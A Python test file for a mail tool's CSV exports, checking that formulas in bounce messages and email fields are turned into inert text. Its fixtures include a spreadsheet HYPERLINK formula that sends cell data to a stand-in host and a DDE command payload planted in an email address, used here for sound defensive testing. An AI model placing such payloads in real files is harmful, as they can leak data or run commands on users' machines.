"""Spreadsheets get text, not formulas (issue 24, finding 6): a bounce whose Diagnostic-Code
is a formula lands in `status --csv` and the workspace's report.csv as text."""

from __future__ import annotations

import csv
import io
import mailbox
import sqlite3
from pathlib import Path

import pytest
from test_bounces import LETTER, SAMPLES, journal_with_sample_batch
from web_fixtures import LETTER as WORKSPACE_LETTER
from web_fixtures import make_workspace

from missive.app.bounces import BouncesRequest, read_bounces
from missive.app.spreadsheet import neutral
from missive.cli import main
from missive.deliver.journal import BatchInfo, Journal, NewDelivery, SendState
from missive.deliver.mailboxes import MailboxKind, MailboxSpec

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click to fix")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutral(f"{start}1+1") == f"'{start}1+1"
    assert neutral(f"a{start}") == f"a{start}"


def test_a_formula_in_a_bounce_is_text_in_status_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    journal = journal_with_sample_batch(tmp_path)
    box = mailbox.Maildir(tmp_path / "Maildir", create=True)
    bounce = (SAMPLES / "postfix-unknown-user.eml").read_bytes()
    box.add(
        bounce.replace(
            b'Diagnostic-Code: X-Postfix; unknown user: "nobody1@example.org"',
            b"Diagnostic-Code: smtp; " + FORMULA.encode(),
        )
    )
    spec = MailboxSpec(MailboxKind.MAILDIR, str(tmp_path / "Maildir"))
    read_bounces(BouncesRequest(LETTER, journal, spec))
    out = tmp_path / "status.csv"
    main(["status", str(LETTER), "--journal", str(journal), "--csv", str(out)])
    capsys.readouterr()
    with out.open(encoding="utf-8", newline="") as stream:
        rows = {row["recipient_id"]: row for row in csv.DictReader(stream)}
    assert rows["r2"]["state"] == "bounced"
    assert rows["r2"]["notice_text"] == "'" + FORMULA


def test_a_formula_in_a_bounce_is_text_in_the_report_csv(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path)
    rid = "es-gov-01"
    with Journal.open(ws.journal) as journal:
        journal.ensure_batch(BatchInfo("b1", WORKSPACE_LETTER, "letters/x.yaml", "r.csv"))
        journal.enqueue(
            "b1",
            [NewDelivery(rid, "=cmd|' /C calc'!A0@example.org", "es", "governments",
                         "s@itu.int", ("x@example.org",), False, "<m@itu.int>", "0" * 64, "x")],
        )  # fmt: skip
        journal.mark_sending("b1", rid)
        journal.mark_outcome("b1", rid, SendState.SENT, code=250, text="queued")
    with sqlite3.connect(ws.journal) as conn:
        conn.execute(
            "UPDATE deliveries SET state = 'bounced', notice_status = '5.1.1', notice_text = ?",
            (FORMULA,),
        )
    client = ws.form_login("sec")
    text = client.get(f"/letters/{WORKSPACE_LETTER}/report.csv").text
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["recipient_id"] == rid]
    assert row["notice_text"] == "'" + FORMULA
    assert row["email"] == "'=cmd|' /C calc'!A0@example.org"
